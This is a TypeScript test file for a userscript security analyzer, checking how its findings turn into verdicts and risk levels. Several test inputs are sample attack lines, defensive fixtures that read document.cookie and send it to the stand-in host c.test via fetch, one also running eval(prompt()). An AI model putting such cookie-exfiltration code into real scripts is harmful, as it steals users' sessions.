import { expect, test } from "vitest";
import type { RiskLevel, Severity, Vulnerability } from "../analysis-result.ts";
import { analyzeScript } from "../analyze-script.ts";
import { checkedInPart } from "../rules/checked-in-part.ts";
import { userscript } from "../testing/find-in.ts";
import { CHECKED_IN_PART, verdictOf } from "./verdict.ts";

const PART = "Not checked in full: it is too large, or takes too long to check. Its beginning was checked.";

function finding(severity: Severity, type: string, description = `Does ${type}.`): Vulnerability {
	return { type, severity, description, line: 1, column: 1, path: [] };
}
const verdict = (risk_level: RiskLevel, ...vulnerabilities: Vulnerability[]) => {
	const { kind, grounds, others, part } = verdictOf({ risk_level, vulnerabilities });
	return [kind, grounds.map(({ description }) => description), others, part];
};

test("an attack rests on its gravest finding, with the path", () => {
	const { kind, grounds, others } = verdictOf(
		analyzeScript({ code: "const c = document.cookie; fetch('https://c.test/' + c); eval(prompt());" }),
	);
	expect([kind, grounds.length, others > 0]).toEqual(["attack", 1, true]);
	expect(grounds[0]).toMatchObject({ type: "cookie-exfiltration", severity: "critical" });
	expect(grounds[0]?.path.length).toBeGreaterThan(1);
});

test("'worth a look' is based on at most two sentences that say different things", () => {
	const medium = (type: string, description?: string) => finding("medium", type, description);
	expect(verdict("amber", medium("a"))).toEqual(["worth-a-look", ["Does a."], 0, null]);
	expect(verdict("amber", medium("a"), medium("b"), medium("c"))).toEqual([
		"worth-a-look",
		["Does a.", "Does b."],
		1,
		null,
	]);
	// The same sentence of another line says nothing more; a further finding of the same rule only when no other rule has one.
	expect(verdict("amber", medium("a"), medium("a"), medium("b"))).toEqual([
		"worth-a-look",
		["Does a.", "Does b."],
		1,
		null,
	]);
	expect(verdict("amber", medium("a"), medium("a", "Does it again."))).toEqual([
		"worth-a-look",
		["Does a.", "Does it again."],
		0,
		null,
	]);
	const long = "Loads a library from https://a.test/x.js?v=1.2: it can change. Nobody would notice.";
	expect(verdict("amber", medium("a", long), medium("b"))).toEqual(["worth-a-look", [long], 1, null]);
	expect(verdict("amber", medium("b"), medium("a", long))).toEqual(["worth-a-look", ["Does b."], 1, null]);
	// Remarks are no reason to look.
	expect(verdict("amber", medium("a"), finding("low", "b"))).toEqual(["worth-a-look", ["Does a."], 1, null]);
});

test("a script that was not checked in full is told apart from one with a finding, which also says the part", () => {
	const part = finding("medium", CHECKED_IN_PART, PART);
	expect(checkedInPart.id).toBe(CHECKED_IN_PART);
	expect(verdict("amber", part, finding("low", "a"))).toEqual(["checked-in-part", [], 1, PART]);
	expect(verdict("amber", finding("medium", "a"), part)).toEqual(["worth-a-look", ["Does a."], 0, PART]);
	expect(verdict("red", finding("high", "a"), part)).toEqual(["attack", ["Does a."], 0, PART]);
});

test("nothing found, and nothing known", () => {
	expect(verdict("green", finding("low", "a"))).toEqual(["nothing-found", [], 1, null]);
	expect(verdictOf(analyzeScript({ code: "document.title = 'a'" })).kind).toBe("nothing-found");
	expect(verdictOf(analyzeScript({ code: "let = (" }))).toEqual({ kind: "unread", grounds: [], others: 0, part: null });
});

test("the level of each verdict is the one that is stored", () => {
	const scripts = [
		"document.title = 'a'",
		"fetch('https://c.test/' + document.cookie)",
		userscript(["match *://*/*", "require https://a.test/x.js"], "f()"),
		"let = (",
	];
	const levels = scripts.map((code) => {
		const result = analyzeScript({ code });
		return `${result.risk_level} ${verdictOf(result).kind}`;
	});
	expect(levels).toEqual(["green nothing-found", "red attack", "amber worth-a-look", "unrated unread"]);
});
